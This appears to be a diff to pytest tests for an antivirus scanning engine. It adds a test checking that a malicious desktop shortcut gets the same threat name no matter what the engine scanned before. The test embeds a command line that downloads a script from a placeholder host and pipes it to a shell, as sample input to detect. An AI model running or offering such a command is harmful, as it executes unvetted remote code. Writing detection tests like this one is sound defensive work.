@@ -8,17 +8,19 @@ import tarfile
 import av_samples
 import pytest
 
-from gatepost.antivirus.builtin import BuiltinEngine
+from gatepost.antivirus.builtin import BuiltinEngine, packaged_sources
+from gatepost.antivirus.compiling import compile_knowledge
 from gatepost.antivirus.stage import inspect
 from gatepost.model.finding import ObjectStatus, ScanOptions
 
-ENGINE = BuiltinEngine()
+IMAGE = compile_knowledge(packaged_sources())
+ENGINE = BuiltinEngine(IMAGE)
 PROGRAM = b"MZ".ljust(60, b"\0") + struct.pack("<I", 64) + b"PE\0\0\x64\x86".ljust(300, b"\0")
 
 
-def verdict(data: bytes, name: str) -> tuple[ObjectStatus, str]:
+def verdict(data: bytes, name: str, engine: BuiltinEngine = ENGINE) -> tuple[ObjectStatus, str]:
     """Return status and threat of an attachment."""
-    analysis = inspect(av_samples.attached(data, name=name), ScanOptions(), [ENGINE], math.inf)
+    analysis = inspect(av_samples.attached(data, name=name), ScanOptions(), [engine], math.inf)
     return analysis.objects[2].status, analysis.objects[2].threat
 
 
@@ -152,3 +154,13 @@ def test_a_tar_archive_behind_the_end_of_another() -> None:
 )
 def test_small_images_of_kinds_nobody_reads_are_not_clean(data: bytes) -> None:
     assert verdict(data, "a.img")[0] is ObjectStatus.ERROR
+
+
+def test_name_of_a_threat_does_not_depend_on_what_was_scanned_before() -> None:
+    """Two filters, each with its own past, must call one mail the same."""
+    engine = BuiltinEngine(IMAGE)
+    both = entry('sh -c "curl https://example.net | sh"')
+    first = verdict(both, "a.desktop", engine)
+    for name, data, _ in SUSPICIOUS:
+        verdict(data, name, engine)
+    assert verdict(both, "a.desktop", engine) == first == (ObjectStatus.SUSPICIOUS, "Heuristic.Shortcut.Desktop")
